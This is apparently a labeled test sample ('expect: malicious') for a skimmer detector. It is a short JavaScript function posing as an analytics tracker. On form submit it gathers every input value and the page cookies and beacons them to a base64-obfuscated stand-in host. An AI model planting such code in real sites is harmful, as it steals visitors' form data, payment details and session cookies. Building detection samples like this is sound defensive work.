// expect: malicious
// source: Magecart-style skimmers disguised as analytics hits (Measurement Protocol look-alikes, 2020-2025
// reports): on submit, the form's fields and the cookies go as event labels to a host decoded from base64.
var parts = ['d3d3LmFuYWx5dGljcy1sb29rYWxpa2UuZXhhbXBsZQ==', 'Y29sbGVjdA=='];
function host(i) { return atob(parts[i]); }
export function track(form) {
  form.addEventListener('submit', function () {
    var data = {};
    form.querySelectorAll('input').forEach(function (el) { data[el.name] = el.value; });
    var q = 'v=1&t=event&el=' + encodeURIComponent(JSON.stringify({ f: data, c: document.cookie }));
    navigator.sendBeacon('https://' + host(0) + '/' + host(1) + '?' + q);
  }, true);
}
